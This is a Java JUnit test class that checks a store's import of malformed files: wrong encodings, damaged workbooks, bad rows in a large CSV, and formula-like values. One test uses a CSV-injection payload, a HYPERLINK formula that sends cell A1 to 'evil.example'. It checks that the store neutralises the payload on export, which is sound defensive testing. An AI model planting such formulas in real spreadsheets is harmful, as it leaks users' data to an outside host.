package org.hanse.store;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.IOException;
import java.net.URISyntaxException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.stream.Stream;
import org.hanse.ingest.format.Problem;
import org.hanse.store.access.Principal;
import org.hanse.store.io.Exporter;
import org.hanse.store.io.ImportReport;
import org.hanse.store.io.RecordKind;
import org.hanse.store.io.TableReaders;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.MethodSource;

/**
 * The corpus of malformed files: each file in {@code src/test/resources/corpus} comes with the exact problems its
 * import must report ({@code <name>.expected}, one problem per line, in report order). Files that are awkward to
 * keep in the repository (damaged workbooks, files of a hundred thousand rows) are made by the tests. Every import
 * here is checked against a store holding the small test dataset, on both databases; none may write anything.
 */
class MalformedCorpusTest {
  static final Principal OPERATOR = Principal.operator("tester");
  private static final Map<TestDb, TestDb.Fresh> DATABASES = new EnumMap<>(TestDb.class);
  private static final Map<TestDb, HanseStore> STORES = new EnumMap<>(TestDb.class);
  @TempDir static Path tmp;

  /** One store per database for the whole class: imports with problems write nothing, so they can share it. */
  static HanseStore store(TestDb kind) {
    return STORES.computeIfAbsent(kind, k -> {
      TestDb.Fresh db = k.fresh(tmp);
      DATABASES.put(k, db);
      HanseStore s = db.open(MutableClock.at("2026-06-01T00:00:00Z"));
      s.loadBaseline(TestDatasets.small());
      return s;
    });
  }

  @AfterAll
  static void close() throws Exception {
    for (HanseStore s : STORES.values()) {
      s.close();
    }
    for (TestDb.Fresh f : DATABASES.values()) {
      f.close();
    }
  }

  static Stream<Arguments> corpus() throws IOException, URISyntaxException {
    Path dir = Path.of(MalformedCorpusTest.class.getResource("/corpus").toURI());
    List<Arguments> out = new ArrayList<>();
    try (Stream<Path> files = Files.list(dir)) {
      for (Path f : files.sorted().toList()) {
        if (!f.toString().endsWith(".expected")) {
          for (TestDb db : TestDb.values()) {
            out.add(Arguments.of(db, f.getFileName().toString()));
          }
        }
      }
    }
    return out.stream();
  }

  @ParameterizedTest(name = "{1} on {0}")
  @MethodSource("corpus")
  void eachFileReportsExactlyItsExpectedProblems(TestDb kind, String name) throws Exception {
    Path dir = Path.of(getClass().getResource("/corpus").toURI());
    Path file = dir.resolve(name);
    String base = name.substring(0, name.lastIndexOf('.'));
    List<String> expected = Files.readAllLines(dir.resolve(base + ".expected"), StandardCharsets.UTF_8).stream()
        .filter(l -> !l.isBlank()).toList();
    HanseStore store = store(kind);
    Map<String, Long> before = store.counts();
    ImportReport report = store.importPaths(OPERATOR, List.of(file), null, true);
    assertThat(report.problems()).extracting(Problem::toString).containsExactlyElementsOf(expected);
    ImportReport real = store.importPaths(OPERATOR, List.of(file), null, false);
    if (expected.isEmpty()) {
      assertThat(real.applied()).isTrue();
    } else {
      assertThat(real.applied()).isFalse();
      assertThat(store.counts()).isEqualTo(before);
    }
  }

  @ParameterizedTest
  @EnumSource(TestDb.class)
  void gb18030FromChineseExcelIsDetectedAndDecoded(TestDb kind) throws Exception {
    Path file = Path.of(getClass().getResource("/corpus/gb18030.cities.csv").toURI());
    ImportReport report = store(kind).importPaths(OPERATOR, List.of(file), null, true);
    assertThat(report.files()).containsExactly("gb18030.cities.csv: 2 rows of cities (read as GB18030)");
    assertThat(report.changes()).extracting(c -> c.after()[2]).containsExactly("苏州测试", "无锡测试·𠀀");
    Path bom = Path.of(getClass().getResource("/corpus/utf8bom.cities.csv").toURI());
    assertThat(store(kind).importPaths(OPERATOR, List.of(bom), null, true).files())
        .containsExactly("utf8bom.cities.csv: 1 row of cities (read as UTF-8 with BOM)");
  }

  @ParameterizedTest
  @EnumSource(TestDb.class)
  void formulaLikeValuesAreStoredAsTextWithAWarningAndNeutralisedOnExport(TestDb kind) throws Exception {
    Path file = Path.of(getClass().getResource("/corpus/formula.engagements.csv").toURI());
    HanseStore store = store(kind);
    ImportReport report = store.importPaths(OPERATOR, List.of(file), null, false);
    assertThat(report.warnings()).extracting(Problem::toString).containsExactly(
        "formula.engagements.csv:2: column notes, value '=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")': starts "
            + "like a spreadsheet formula: stored as text, and neutralised with a leading ' on export",
        "formula.engagements.csv:3: column partner, value '@Lyon': starts like a spreadsheet formula: stored as text,"
            + " and neutralised with a leading ' on export",
        "formula.engagements.csv:3: column title, value '+86 21 1234 5678': starts like a spreadsheet formula: stored"
            + " as text, and neutralised with a leading ' on export",
        "formula.engagements.csv:3: column notes, value '-plain dash': starts like a spreadsheet formula: stored as"
            + " text, and neutralised with a leading ' on export");
    assertThat(store.records().engagements()).extracting(e -> e.notes())
        .contains("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "-plain dash");
    Path csv = tmp.resolve(kind + "-engagements.csv");
    store.export(csv, Exporter.Format.CSV, List.of(RecordKind.ENGAGEMENTS), Exporter.CsvEncoding.UTF_8);
    String text = Files.readString(csv);
    assertThat(text).contains("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"click\"\")\"")
        .contains(",'@Lyon,,,'+86 21 1234 5678,").contains(",'-plain dash").doesNotContain(",=HYPERLINK")
        .doesNotContain(",@Lyon");
    Path xlsx = tmp.resolve(kind + "-engagements.xlsx");
    store.export(xlsx, Exporter.Format.XLSX, List.of(RecordKind.ENGAGEMENTS), null);
    var table = TableReaders.readXlsx("e.xlsx", Files.readAllBytes(xlsx)).tables().get(0);
    // The reader undoes the guard, so look at the raw cells through a second, unguarded view: the guard is there
    // because re-importing the exported files changes nothing.
    assertThat(store.importPaths(OPERATOR, List.of(csv), null, true).count(
        org.hanse.store.write.PlannedChange.Action.UNCHANGED)).isEqualTo(2);
    assertThat(store.importPaths(OPERATOR, List.of(xlsx), null, true).count(
        org.hanse.store.write.PlannedChange.Action.UNCHANGED)).isEqualTo(2);
    assertThat(table.rows()).hasSize(2);
    assertThat(XlsxCells.rawStrings(xlsx)).contains("'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "'@Lyon", "'+86 21 1234 5678", "'-plain dash").doesNotContain("@Lyon", "-plain dash");
  }

  @ParameterizedTest
  @EnumSource(TestDb.class)
  void truncatedWorkbookIsReportedNotThrown(TestDb kind) throws Exception {
    Path xlsx = tmp.resolve(kind + "-cities.xlsx");
    store(kind).export(xlsx, Exporter.Format.XLSX, List.of(RecordKind.CITIES), null);
    byte[] whole = Files.readAllBytes(xlsx);
    Path truncated = tmp.resolve(kind + "-truncated.cities.xlsx");
    Files.write(truncated, java.util.Arrays.copyOf(whole, whole.length / 2));
    ImportReport report = store(kind).importPaths(OPERATOR, List.of(truncated), null, false);
    assertThat(report.problems()).extracting(Problem::toString).containsExactly(truncated.getFileName()
        + ": cannot be read as an XLSX workbook: the file is damaged or incomplete (was it truncated?)");
    Path xls = tmp.resolve(kind + "-old.cities.xlsx");
    byte[] ole2 = new byte[512];
    System.arraycopy(new byte[] {(byte) 0xD0, (byte) 0xCF, 0x11, (byte) 0xE0, (byte) 0xA1, (byte) 0xB1, 0x1A,
        (byte) 0xE1}, 0, ole2, 0, 8);
    Files.write(xls, ole2);
    assertThat(store(kind).importPaths(OPERATOR, List.of(xls), null, false).problems()).extracting(Problem::toString)
        .containsExactly(xls.getFileName() + ": is an old Excel 97-2003 workbook (.xls), not XLSX: save it as .xlsx");
    Path csvAsXlsx = tmp.resolve(kind + "-text.cities.xlsx");
    Files.writeString(csvAsXlsx, "id,name_en\n");
    assertThat(store(kind).importPaths(OPERATOR, List.of(csvAsXlsx), null, false).problems())
        .extracting(Problem::toString)
        .containsExactly(csvAsXlsx.getFileName() + ": is not an XLSX workbook (it is not a ZIP package)");
  }

  @ParameterizedTest
  @EnumSource(TestDb.class)
  void hundredThousandRowsWithThreeBadOnesReportExactlyThose(TestDb kind) throws Exception {
    Path file = tmp.resolve(kind + "-big.ties.csv");
    StringBuilder s = new StringBuilder("id,type,city_id,partner_id,from_year,to_year,weight,detail,source_id\n");
    for (int i = 1; i <= 100_000; i++) {
      String weight = i == 31_416 ? "0" : Integer.toString(1 + i % 7);
      String city = i == 77_777 ? "no-such-city" : "1796236";
      String year = i == 99_999 ? "3000" : Integer.toString(1900 + i % 120);
      s.append("big-").append(i).append(",firm_office,").append(city).append(",firm-1,").append(year)
          .append(",,").append(weight).append(",office ").append(i).append(",sc\n");
    }
    Files.writeString(file, s);
    HanseStore store = store(kind);
    Map<String, Long> before = store.counts();
    ImportReport report = store.importPaths(OPERATOR, List.of(file), null, false);
    String name = file.getFileName().toString();
    assertThat(report.problems()).extracting(Problem::toString).containsExactly(
        name + ":31417: column weight, value '0': wrong type: must be a positive finite number",
        name + ":77778: column city_id, value 'no-such-city': unknown city: not in the knowledge base nor in this"
            + " import",
        name + ":100000: column from_year, value '3000': year in the future (after 2026)");
    assertThat(report.files()).containsExactly(name + ": 100000 rows of ties (read as UTF-8)");
    assertThat(store.counts()).isEqualTo(before);
  }
}
